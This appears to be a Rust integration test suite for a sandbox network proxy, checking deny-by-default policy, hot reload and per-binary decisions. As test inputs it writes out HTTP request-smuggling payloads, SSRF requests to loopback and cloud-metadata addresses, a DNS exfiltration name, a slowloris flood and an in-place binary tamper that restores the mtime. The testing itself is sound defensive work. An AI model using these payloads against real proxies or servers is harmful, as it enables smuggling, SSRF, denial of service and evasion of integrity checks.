//! The network of a sandbox end to end: real clients inside (curl, python3, git), the
//! real proxy in the supervisor, real upstream servers of `tests/env` in their
//! own network namespace. Deny by default; decisions by host, port and binary; SSRF
//! guard; forward proxy; policy DNS; sha256 pinning;
//! hot reload through the control socket; logs; a socket shared with an allowed program.
//! Connections that ignore the proxy (refusal, transparent TCP) are in `bypass.rs`.

use std::process::Stdio;
use std::time::Duration;

use openshell_tests::{Sandbox, need_sandbox, need_upstream, policy_file, stderr, stdout, up};

mod netcommon;

use netcommon::{CURL, Net, bin, control, ep, policy};

fn no_policy_denies_everything_with_a_clear_answer() {
    need_upstream!();
    let n = Net::new();
    let url = up("OS_UPSTREAM_HTTPS_URL");
    // A raw CONNECT shows the deny answer exactly as a client gets it.
    let script = format!(
        "{CURL} {url}/x; echo curl=$?; python3 -c 'import socket; s=socket.create_connection((\"10.200.0.1\",3128)); s.sendall(b\"CONNECT {h}:443 HTTP/1.1\\r\\nHost: {h}:443\\r\\n\\r\\n\"); print(s.recv(4096).decode())'",
        h = up("OS_UPSTREAM_HOST")
    );
    let out = n.run(None, &script);
    let text = stdout(&out);
    assert!(text.contains("curl=56"), "{text}{}", stderr(&out));
    assert!(text.contains("HTTP/1.1 403 Forbidden"), "{text}");
    let body = text.lines().last().unwrap_or("");
    let v: serde_json::Value = serde_json::from_str(body).unwrap_or_else(|e| panic!("{e}: {body}"));
    assert_eq!(v["error"], "policy_denied");
    assert_eq!(
        v["detail"],
        format!(
            "CONNECT {}:443 not permitted by policy",
            up("OS_UPSTREAM_HOST")
        )
    );
    assert_eq!(v["reason"], "no policy allows this destination");
    let log = n.log();
    assert!(log.contains("NET:OPEN DENIED /usr/bin/curl("), "{log}");
    assert!(
        log.contains(&format!(
            "-> {}:443 [reason:no policy allows this destination]",
            up("OS_UPSTREAM_HOST")
        )),
        "{log}"
    );
    // The same as OCSF.
    let denied: Vec<_> = n
        .ocsf()
        .into_iter()
        .filter(|e| e["action"] == "Denied")
        .collect();
    assert!(!denied.is_empty());
    assert_eq!(denied[0]["class_uid"], 4001);
    assert_eq!(denied[0]["dst_endpoint"]["port"], 443);
    assert!(
        denied
            .iter()
            .any(|e| e["actor"]["process"]["name"] == "curl"),
        "{denied:?}"
    );
}

fn host_port_and_binary_decide() {
    need_upstream!();
    let n = Net::new();
    let host = up("OS_UPSTREAM_HOST");
    let url = up("OS_UPSTREAM_HTTPS_URL");
    let p = policy(&ep(&host, 443), &bin("/usr/bin/curl"));
    let script = format!(
        "{CURL} {url}/allowed | grep ^method=; \
         {CURL} https://{host}:8443/wrong-port; echo port=$?; \
         python3 -c 'import urllib.request,ssl; urllib.request.urlopen(\"{url}/py\", context=ssl.create_default_context(cafile=\"/sandbox/ca.crt\"))' 2>&1 | tail -1; \
         {CURL} https://{other}/other; echo other=$?",
        other = up("OS_UPSTREAM_OTHER_HOST")
    );
    let out = n.run(Some(&p), &script);
    let text = stdout(&out);
    assert!(text.contains("method=GET"), "{text}{}", stderr(&out));
    assert!(text.contains("port=56"), "{text}");
    assert!(
        text.contains("Tunnel connection failed: 403") || text.contains("403"),
        "python3 was allowed: {text}"
    );
    assert!(text.contains("other=56"), "{text}");
    let log = n.log();
    assert!(
        log.contains("NET:OPEN ALLOWED /usr/bin/curl(") && log.contains("[policy:upstream]"),
        "{log}"
    );
    assert!(
        log.contains("[reason:destination allowed for other binaries only]"),
        "{log}"
    );
    // `/**` allows any binary.
    let p = policy(&ep(&host, 443), &bin("/**"));
    let script = format!(
        "python3 -c 'import urllib.request,ssl; print(urllib.request.urlopen(\"{url}/py\", context=ssl.create_default_context(cafile=\"/sandbox/ca.crt\")).read().decode().splitlines()[0])'"
    );
    let out = n.run(Some(&p), &script);
    assert_eq!(stdout(&out), "method=GET\n", "{}", stderr(&out));
}

fn wildcards_private_addresses_and_allowed_ips() {
    need_upstream!();
    let n = Net::new();
    let wild = "*.wild.test.openshell";
    let script = format!(
        "for h in a.wild.test.openshell b.c.wild.test.openshell wild.test.openshell; do {CURL} -o /dev/null -w \"$h=%{{http_code}}\\n\" https://$h/ 2>/dev/null; done"
    );
    // A wildcard resolving to a private address needs allowed_ips.
    let out = n.run(
        Some(&policy(&ep(wild, 443), &bin("/usr/bin/curl"))),
        &script,
    );
    assert_eq!(
        stdout(&out),
        "a.wild.test.openshell=000\nb.c.wild.test.openshell=000\nwild.test.openshell=000\n"
    );
    assert!(
        n.log()
            .contains("is a private address and *.wild.test.openshell is a wildcard"),
        "{}",
        n.log()
    );
    let with_ips = format!(
        "      - {{ host: \"{wild}\", port: 443, allowed_ips: [\"{}\"] }}\n",
        up("OS_UPSTREAM_SUBNET")
    );
    let out = n.run(Some(&policy(&with_ips, &bin("/usr/bin/curl"))), &script);
    // `*` is one label: a.wild yes; b.c.wild and the apex no.
    assert_eq!(
        stdout(&out),
        "a.wild.test.openshell=200\nb.c.wild.test.openshell=000\nwild.test.openshell=000\n",
        "{}",
        stderr(&out)
    );
    // allowed_ips that do not contain the address: denied.
    let wrong =
        format!("      - {{ host: \"{wild}\", port: 443, allowed_ips: [\"10.99.0.0/24\"] }}\n");
    let out = n.run(Some(&policy(&wrong, &bin("/usr/bin/curl"))), &script);
    assert!(
        stdout(&out).starts_with("a.wild.test.openshell=000"),
        "{}",
        stdout(&out)
    );
}

fn ssrf_targets_are_refused_whatever_the_policy() {
    need_upstream!();
    let n = Net::new();
    let eps = [
        ep("127.0.0.1", 80),
        ep("169.254.169.254", 80),
        ep("localhost", 80),
        ep("0.0.0.0", 80),
    ]
    .concat();
    let script = format!(
        "for u in http://127.0.0.1/ http://169.254.169.254/latest/meta-data http://localhost/ http://0.0.0.0/; do {CURL} --noproxy '' -o /dev/null -w \"%{{http_code}}\\n\" $u; done"
    );
    let out = n.run(Some(&policy(&eps, &bin("/**"))), &script);
    assert_eq!(stdout(&out), "403\n403\n403\n403\n", "{}", stderr(&out));
    let log = n.log();
    assert!(log.contains("loopback address: never allowed"), "{log}");
    assert!(log.contains("link-local address (cloud metadata)"), "{log}");
}

fn forward_proxy_and_malformed_requests() {
    need_upstream!();
    let n = Net::new();
    let host = up("OS_UPSTREAM_HOST");
    let p = policy(&[ep(&host, 80), ep(&host, 81)].concat(), &bin("/**"));
    let raw = |req: &str| {
        format!(
            "python3 -c 'import socket,sys; s=socket.create_connection((\"10.200.0.1\",3128)); s.sendall(sys.argv[1].encode().decode(\"unicode_escape\").encode()); print(s.recv(65536).decode(errors=\"replace\").splitlines()[0])' '{req}'"
        )
    };
    let script = [
        format!("curl -sS -m 10 http://{host}/fwd?q=1 | grep -E '^(method|request_line)='"),
        raw(&format!(
            "GET https://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"
        )),
        raw("GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"),
        raw(&format!(
            "CONNECT {host}:443 HTTP/1.1\\r\\nX: {}\\r\\n\\r\\n",
            "a".repeat(9000)
        )),
        raw("NOT HTTP\\r\\n\\r\\n"),
        format!("curl -sS -m 10 -o /dev/null -w '%{{http_code}}\\n' http://{host}:81/"),
    ]
    .join("; ");
    let out = n.run(Some(&p), &script);
    let lines: Vec<String> = stdout(&out).lines().map(str::to_string).collect();
    assert_eq!(lines[0], "method=GET", "{lines:?} {}", stderr(&out));
    // Sent to the upstream in origin form.
    assert_eq!(lines[1], "request_line=GET /fwd?q=1 HTTP/1.1");
    assert_eq!(lines[2], "HTTP/1.1 400 Bad Request", "https absolute URI");
    assert_eq!(
        lines[3], "HTTP/1.1 400 Bad Request",
        "origin-form to the proxy"
    );
    assert_eq!(lines[4], "HTTP/1.1 431 Request Header Fields Too Large");
    assert_eq!(lines[5], "HTTP/1.1 400 Bad Request");
    // Allowed but refused upstream: 502 upstream_unreachable.
    assert_eq!(lines[6], "502");
}

/// Requests two HTTP parsers could read differently, a Host naming another host than
/// the URI, pipelined tails: refused (or never forwarded) by the explicit proxy, on a
/// plain endpoint and on a `protocol: rest` one (whose rules then decide each request).
fn forward_proxy_refuses_ambiguous_requests_and_fronting() {
    need_upstream!();
    let n = Net::new();
    let host = up("OS_UPSTREAM_HOST");
    let other = up("OS_UPSTREAM_OTHER_HOST");
    let rest = format!(
        "      - {{ host: \"{other}\", port: 80, protocol: rest, rules: [{{ allow: {{ method: GET, path: /x }} }}] }}\n"
    );
    let p = policy(&[ep(&host, 80), rest].concat(), &bin("/**"));
    // Prints every status line the proxy (or the upstream) answered, then "end".
    let raw = |req: &str| {
        format!(
            "python3 -c 'import socket,sys\ns=socket.create_connection((\"10.200.0.1\",3128)); s.settimeout(10); s.sendall(sys.argv[1].encode().decode(\"unicode_escape\").encode())\nd=b\"\"\nwhile True:\n  c=s.recv(65536)\n  if not c: break\n  d+=c\nprint(\" | \".join(l.decode() for l in d.split(b\"\\r\\n\") if l.startswith(b\"HTTP/1.\")) or \"closed\")' '{req}'"
        )
    };
    let u = format!("http://{host}");
    let cases = [
        // Bare LF: a parser splitting on LF sees a second header (or request).
        format!("GET {u}/a HTTP/1.1\\r\\nHost: {host}\\nX-Smuggled: 1\\r\\n\\r\\n"),
        // Bare CR.
        format!("GET {u}/a HTTP/1.1\\r\\nHost: {host}\\rX: 1\\r\\n\\r\\n"),
        // obs-fold.
        format!("GET {u}/a HTTP/1.1\\r\\nHost: {host}\\r\\n X: 1\\r\\n\\r\\n"),
        // CL.TE and TE.CL.
        format!(
            "POST {u}/a HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
        ),
        format!(
            "POST {u}/a HTTP/1.1\\r\\nHost: {host}\\r\\nTransfer-Encoding: chunked\\r\\nTransfer-Encoding: identity\\r\\n\\r\\n0\\r\\n\\r\\n"
        ),
        format!(
            "POST {u}/a HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: 1\\r\\nContent-Length: 40\\r\\n\\r\\nx"
        ),
        // Host fronting: another name, another port.
        format!("GET {u}/a HTTP/1.1\\r\\nHost: {other}\\r\\n\\r\\n"),
        format!("GET {u}/a HTTP/1.1\\r\\nHost: {host}:81\\r\\n\\r\\n"),
        // Userinfo, an escaped name.
        format!("GET http://x@{host}/a HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"),
        "GET http://api%2etest.openshell/a HTTP/1.1\\r\\n\\r\\n".to_string(),
        // A pipelined tail is never forwarded: one request per connection.
        format!(
            "GET {u}/first HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\nGET {u}/second HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"
        ),
    ];
    let mut script: Vec<String> = cases.iter().map(|c| raw(c)).collect();
    let code = "curl -sS -m 10 -o /dev/null -w '%{http_code}\\n'";
    // A name in another spelling (case, final dot) is the same name: allowed, and
    // resolved as the policy's name (never the dotted one by the host's resolver).
    let upper = host.to_ascii_uppercase();
    script.push(format!("{code} http://{upper}./"));
    // protocol: rest on a forwarded request: rules decide; h2c upgrades are refused.
    script.push(format!("{code} http://{other}/x"));
    script.push(format!("{code} http://{other}/y"));
    script.push(format!("{code} --http2 http://{other}/x"));
    let out = n.run(Some(&p), &script.join("; "));
    let lines: Vec<String> = stdout(&out).lines().map(str::to_string).collect();
    let want = [
        "HTTP/1.1 400 Bad Request",
        "HTTP/1.1 400 Bad Request",
        "HTTP/1.1 400 Bad Request",
        "HTTP/1.1 400 Bad Request",
        "HTTP/1.1 400 Bad Request",
        "HTTP/1.1 400 Bad Request",
        "HTTP/1.1 403 Forbidden",
        "HTTP/1.1 403 Forbidden",
        "HTTP/1.1 400 Bad Request",
        "HTTP/1.1 400 Bad Request",
        "HTTP/1.1 200 OK",
        "200",
        "200",
        "403",
        "403",
    ];
    assert_eq!(lines, want, "{}", stderr(&out));
    let log = n.log();
    assert!(
        log.contains("NET:OPEN ALLOWED") && log.contains(&format!("-> {host}:80")),
        "{log}"
    );
    assert!(!log.contains(&upper), "the name was not normalised: {log}");
    assert!(log.contains("only WebSocket upgrades are relayed"), "{log}");
    assert!(
        log.contains(&format!("DENIED GET http://{other}/y")),
        "{log}"
    );
}

/// A program whose executable is too large to hash (here a sparse 1.1 GiB copy of
/// curl) is refused with the reason, and the proxy keeps serving everyone else.
fn a_huge_executable_is_refused_without_stalling_the_proxy() {
    need_upstream!();
    let n = Net::new();
    let host = up("OS_UPSTREAM_HOST");
    let p = policy(&ep(&host, 80), &bin("/**"));
    let code = "-sS -m 20 -o /dev/null -w";
    let script = format!(
        "cp /usr/bin/curl /sandbox/big && truncate -s 1100M /sandbox/big && \
         /sandbox/big {code} 'big=%{{http_code}}\\n' http://{host}/ & \
         curl {code} 'curl=%{{http_code}}\\n' http://{host}/; wait"
    );
    let out = n.run(Some(&p), &script);
    let text = stdout(&out);
    let mut lines: Vec<&str> = text.lines().collect();
    lines.sort();
    assert_eq!(lines, ["big=403", "curl=200"], "{}", stderr(&out));
    assert!(
        n.log().contains("larger than 1024 MiB and is not hashed"),
        "{}",
        n.log()
    );
}

fn dns_answers_only_allowed_names() {
    need_upstream!();
    let n = Net::new();
    let host = up("OS_UPSTREAM_HOST");
    let p = policy(&ep(&host, 443), &bin("/usr/bin/curl"));
    // A data-carrying name (exfiltration attempt) gets NXDOMAIN and is never resolved.
    let script = format!(
        "getent hosts {host} | cut -d' ' -f1; getent hosts c2VjcmV0.exfil.example.com || echo nx; getent hosts {other} || echo nx-other",
        other = up("OS_UPSTREAM_OTHER_HOST")
    );
    let out = n.run(Some(&p), &script);
    assert_eq!(
        stdout(&out),
        format!("{}\nnx\nnx-other\n", up("OS_UPSTREAM_IP")),
        "{}",
        stderr(&out)
    );
    assert!(
        n.log()
            .contains("NET:DNS DENIED ?(0) -> c2vjcmv0.exfil.example.com:53"),
        "{}",
        n.log()
    );
}

fn a_binary_changed_after_first_use_is_denied() {
    need_upstream!();
    let n = Net::new();
    let host = up("OS_UPSTREAM_HOST");
    let p = policy(&ep(&host, 80), &bin("/sandbox/tool"));
    let script = format!(
        "cp /usr/bin/curl /sandbox/tool; /sandbox/tool -sS -m 10 -o /dev/null -w 'first=%{{http_code}}\\n' http://{host}/; \
         cat /usr/bin/curl > /sandbox/tool; echo >> /sandbox/tool; \
         /sandbox/tool -sS -m 10 -o /dev/null -w 'second=%{{http_code}}\\n' http://{host}/"
    );
    let out = n.run(Some(&p), &script);
    assert_eq!(stdout(&out), "first=200\nsecond=403\n", "{}", stderr(&out));
    assert!(
        n.log()
            .contains("/sandbox/tool changed since its first use"),
        "{}",
        n.log()
    );
    // Changed in place — same inode, same size, its modification time put back — is a
    // change too (the ctime cannot be put back). The last byte of a stripped ELF is in
    // its section headers, which running it never reads.
    let n = Net::new();
    let script = format!(
        "cp /usr/bin/curl /sandbox/tool; /sandbox/tool -sS -m 10 -o /dev/null -w 'first=%{{http_code}}\n' http://{host}/; \
         cp -p /sandbox/tool /sandbox/ref; ino=$(stat -c %i:%s /sandbox/tool); \
         size=$(stat -c %s /sandbox/tool); \
         printf Z | dd of=/sandbox/tool bs=1 seek=$((size - 1)) conv=notrunc 2>/dev/null; \
         touch -r /sandbox/ref /sandbox/tool; \
         [ \"$ino\" = \"$(stat -c %i:%s /sandbox/tool)\" ] && ! cmp -s /sandbox/ref /sandbox/tool && \
         [ \"$(stat -c %y /sandbox/ref)\" = \"$(stat -c %y /sandbox/tool)\" ] && echo same-inode-size-mtime; \
         /sandbox/tool -sS -m 10 -o /dev/null -w 'second=%{{http_code}}\n' http://{host}/"
    );
    let out = n.run(Some(&p), &script);
    assert_eq!(
        stdout(&out),
        "first=200\nsame-inode-size-mtime\nsecond=403\n",
        "{}",
        stderr(&out)
    );
}

fn git_and_curl_through_the_proxy() {
    need_upstream!();
    let n = Net::new();
    let host = up("OS_UPSTREAM_HOST");
    let p = policy(
        &ep(&host, 443),
        &[bin("/usr/bin/git"), bin("/usr/lib/git-core/*")].concat(),
    );
    // git's https transport asks for info/refs first; nginx answers 200 text, which git
    // rejects as "not a git repository" — proof it went through the proxy and TLS.
    let url = up("OS_UPSTREAM_HTTPS_URL");
    let out = n.run(
        Some(&p),
        &format!(
            "GIT_SSL_CAINFO=/sandbox/ca.crt /usr/bin/git ls-remote {url}/repo.git 2>&1; echo git=$?"
        ),
    );
    let text = stdout(&out);
    assert!(
        !text.contains("Failed to connect") && !text.contains("403"),
        "{text}"
    );
    assert!(
        n.log()
            .contains("NET:OPEN ALLOWED /usr/lib/git-core/git-remote-http"),
        "{}",
        n.log()
    );
}

fn hot_reload_changes_decisions_closes_old_tunnels_and_keeps_a_good_policy() {
    need_upstream!();
    let n = Net::new();
    let host = up("OS_UPSTREAM_HOST");
    let tcp_host = up("OS_UPSTREAM_TCP").split(':').next().unwrap().to_string();
    // An inspected endpoint too: a tunnel to it whose TLS handshake starts after the
    // reload must be closed as well (the change is not forgotten by the handshake).
    let inspected =
        format!("      - {{ host: \"{host}\", port: 443, protocol: rest, access: full }}\n");
    let v1 = policy(
        &[
            format!("      - {{ host: \"{tcp_host}\", port: 7777 }}\n"),
            inspected.clone(),
        ]
        .concat(),
        &bin("/**"),
    );
    // A long-lived tunnel opened under v1, and requests to a host v1 does not allow.
    let script = format!(
        "python3 - <<'EOF' &
import socket, time
s = socket.create_connection(('10.200.0.1', 3128))
s.sendall(b'CONNECT {tcp_host}:7777 HTTP/1.1\\r\\n\\r\\n')
print('tunnel:', s.recv(100).split(b'\\r\\n')[0].decode(), flush=True)
s.sendall(b'one\\n'); print('echo:', s.recv(100).decode().strip(), flush=True)
s.settimeout(20)
print('after reload:', s.recv(100) == b'' and 'closed' or 'open', flush=True)
EOF
python3 - <<'EOF' &
import os, socket, ssl, time
s = socket.create_connection(('10.200.0.1', 3128))
s.sendall(b'CONNECT {host}:443 HTTP/1.1\\r\\nHost: {host}:443\\r\\n\\r\\n')
print('inspected:', s.recv(100).split(b'\\r\\n')[0].decode(), flush=True)
for i in range(200):
    if os.path.exists('/sandbox/reloaded'): break
    time.sleep(0.1)
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
try:
    t = c.wrap_socket(s, server_hostname='{host}')
    t.sendall(b'GET / HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n')
    print('inspected after reload:', t.recv(100) and 'answered' or 'closed', flush=True)
except Exception as e:
    print('inspected after reload: closed', type(e).__name__, flush=True)
EOF
sleep 1; touch /sandbox/ready
for i in $(seq 1 60); do [ -e /sandbox/reloaded ] && break; sleep 0.2; done
curl -sS -m 10 -o /dev/null -w 'after=%{{http_code}}\\n' http://{host}/
wait"
    );
    let name = format!("hot{}", std::process::id());
    let f = policy_file(n.dir.path(), "v1.yaml", &v1);
    let ca = format!("{}:/sandbox/ca.crt:ro", up("OS_UPSTREAM_CA"));
    let child =
        n.sb.cmd()
            .args(["run", "--name", &name, "--keep", "--mount", &ca, "--policy"])
            .arg(&f)
            .args(["--", "sh", "-c", &script])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
    let dir = n.sb.state.path().join("sandboxes").join(&name);
    let sock = dir.join("control.sock");
    let ws = dir.join("workspace");
    for _ in 0..100 {
        if ws.join("ready").exists() {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    // GET shows v1.
    let out = control(&sock, "GET", None);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
    assert_eq!(v["version"], 1, "{}", stdout(&out));
    // A bad policy is rejected and v1 stays.
    let out = control(
        &sock,
        "PUT",
        Some(
            "version: 1\nnetwork_policies:\n  x:\n    endpoints: [{host: \"*.com\", port: 443}]\n",
        ),
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
    assert_eq!(v["error"], "invalid_policy", "{}", stdout(&out));
    assert_eq!(v["active_version"], 1);
    // v2 allows the http host; the tunnel opened under v1 is closed.
    let v2 = policy(
        &[
            ep(&host, 80),
            format!("      - {{ host: \"{tcp_host}\", port: 7777 }}\n"),
            inspected,
        ]
        .concat(),
        &bin("/**"),
    );
    let out = control(&sock, "PUT", Some(&v2));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
    assert_eq!(
        (v["version"].as_u64(), v["changed"].as_bool()),
        (Some(2), Some(true)),
        "{}",
        stdout(&out)
    );
    // The same again: no new version.
    let out = control(&sock, "PUT", Some(&v2));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
    assert_eq!(
        (v["version"].as_u64(), v["changed"].as_bool()),
        (Some(2), Some(false))
    );
    std::fs::write(ws.join("reloaded"), "").unwrap();
    let out = child.wait_with_output().unwrap();
    let text = stdout(&out);
    assert!(
        text.contains("tunnel: HTTP/1.1 200 Connection Established"),
        "{text}{}",
        stderr(&out)
    );
    assert!(text.contains("echo: one"), "{text}");
    assert!(text.contains("after reload: closed"), "{text}");
    assert!(
        text.contains("inspected: HTTP/1.1 200 Connection Established"),
        "{text}"
    );
    assert!(text.contains("inspected after reload: closed"), "{text}");
    assert!(text.contains("after=200"), "{text}");
    let log = std::fs::read_to_string(dir.join("logs/openshell.log")).unwrap_or_default();
    assert!(log.contains("CONFIG:LOADED policy v2 sha256:"), "{log}");
    assert!(log.contains("CONFIG:REJECTED policy (v1 stays)"), "{log}");
    // The control socket is private.
    use std::os::unix::fs::PermissionsExt;
    let _ = std::fs::metadata(&sock).map(|m| assert_eq!(m.permissions().mode() & 0o777, 0o600));
    let _ = std::fs::remove_dir_all(&dir);
}

fn network_none_has_no_proxy() {
    need_sandbox!();
    let sb = Sandbox::new();
    let out = sb.run(
        &["--network", "none"],
        &["sh", "-c", "env | grep -ci proxy; cat /etc/resolv.conf"],
    );
    assert_eq!(stdout(&out), "0\n# openshell: no DNS in this sandbox\n");
}

fn an_allowed_hosts_address_is_not_an_allowed_destination() {
    need_upstream!();
    let n = Net::new();
    let host = up("OS_UPSTREAM_HOST");
    let p = policy(&ep(&host, 443), &bin("/usr/bin/curl"));
    // CONNECT to the literal address the name resolves to: a different destination.
    let script = format!(
        "{CURL} -o /dev/null -w 'name=%{{http_code}}\\n' https://{host}/; {CURL} -k -o /dev/null -w 'ip=%{{http_code}}\\n' https://{ip}/",
        ip = up("OS_UPSTREAM_IP")
    );
    let out = n.run(Some(&p), &script);
    assert_eq!(stdout(&out), "name=200\nip=000\n", "{}", stderr(&out));
    assert!(
        n.log().contains(&format!(
            "-> {}:443 [reason:no policy allows this destination]",
            up("OS_UPSTREAM_IP")
        )),
        "{}",
        n.log()
    );
}

fn slow_clients_do_not_stall_the_proxy() {
    need_upstream!();
    let n = Net::new();
    let host = up("OS_UPSTREAM_HOST");
    let p = policy(&ep(&host, 80), &bin("/**"));
    // 200 connections each sending a partial head and going silent (slowloris), then a
    // normal request: it is served while they wait for their 30 s head timeout.
    let script = format!(
        "python3 - <<'PY'
import socket, subprocess
held = []
for i in range(200):
    s = socket.create_connection(('10.200.0.1', 3128))
    s.sendall(b'GET http://{host}/ HTTP/1.1\\r\\nX-Slow: ')
    held.append(s)
r = subprocess.run(['curl', '-sS', '-m', '10', '-o', '/dev/null', '-w', '%{{http_code}}', 'http://{host}/fast'], capture_output=True, text=True)
print('fast=' + r.stdout)
PY"
    );
    let out = n.run(Some(&p), &script);
    assert_eq!(stdout(&out).trim(), "fast=200", "{}", stderr(&out));
}

fn a_socket_shared_with_an_allowed_program_is_not_laundered() {
    need_upstream!();
    let n = Net::new();
    let host = up("OS_UPSTREAM_HOST");
    // Only `sleep` may connect. python3 (not allowed) makes the socket, lets a `sleep`
    // inherit it, then connects through the proxy: the proxy must not take the
    // connection for sleep's.
    let script = format!(
        "python3 - <<'EOF'
import socket, subprocess
s = socket.socket()
s.set_inheritable(True)
p = subprocess.Popen(['/usr/bin/sleep', '5'], pass_fds=[s.fileno()])
s.connect(('10.200.0.1', 3128))
s.sendall(b'CONNECT {host}:80 HTTP/1.1\\r\\nHost: {host}:80\\r\\n\\r\\n')
print(s.recv(4096).decode(errors='replace'))
p.kill()
EOF"
    );
    let out = n.run(
        Some(&policy(&ep(&host, 80), &bin("/usr/bin/sleep"))),
        &script,
    );
    let text = stdout(&out);
    assert!(text.starts_with("HTTP/1.1 403"), "{text}{}", stderr(&out));
    assert!(text.contains("shared with other programs"), "{text}");
    assert!(
        n.log().contains("shared with other programs"),
        "{}",
        n.log()
    );
}

/// The owner lookup reads descriptors that held no socket last time after the others:
/// a socket that now sits in such a descriptor (a closed file's number, reused) is
/// still found.
fn a_socket_in_a_reused_descriptor_is_still_identified() {
    need_upstream!();
    let n = Net::new();
    let host = up("OS_UPSTREAM_HOST");
    let script = format!(
        "python3 - <<'EOF'
import socket
def get():
    s = socket.create_connection(('10.200.0.1', 3128))
    s.sendall(b'GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n')
    line = s.recv(100).split(b'\\r\\n')[0].decode()
    s.close()
    return line
files = [open('/etc/hostname') for _ in range(20)]
print('first', get(), flush=True)
low = files[0].fileno()
for f in files:
    f.close()
s = socket.socket()
print('reused', s.fileno() == low, flush=True)
s.close()
print('second', get(), flush=True)
EOF"
    );
    let out = n.run(
        Some(&policy(&ep(&host, 80), &bin("/usr/bin/python3*"))),
        &script,
    );
    let text = stdout(&out);
    assert!(
        text.contains("first HTTP/1.1 200"),
        "{text}{}",
        stderr(&out)
    );
    assert!(text.contains("reused True"), "{text}");
    assert!(text.contains("second HTTP/1.1 200"), "{text}{}", n.log());
}

openshell_tests::suite!(
    no_policy_denies_everything_with_a_clear_answer,
    host_port_and_binary_decide,
    wildcards_private_addresses_and_allowed_ips,
    ssrf_targets_are_refused_whatever_the_policy,
    forward_proxy_and_malformed_requests,
    forward_proxy_refuses_ambiguous_requests_and_fronting,
    a_huge_executable_is_refused_without_stalling_the_proxy,
    dns_answers_only_allowed_names,
    a_binary_changed_after_first_use_is_denied,
    git_and_curl_through_the_proxy,
    hot_reload_changes_decisions_closes_old_tunnels_and_keeps_a_good_policy,
    network_none_has_no_proxy,
    an_allowed_hosts_address_is_not_an_allowed_destination,
    slow_clients_do_not_stall_the_proxy,
    a_socket_shared_with_an_allowed_program_is_not_laundered,
    a_socket_in_a_reused_descriptor_is_still_identified,
);
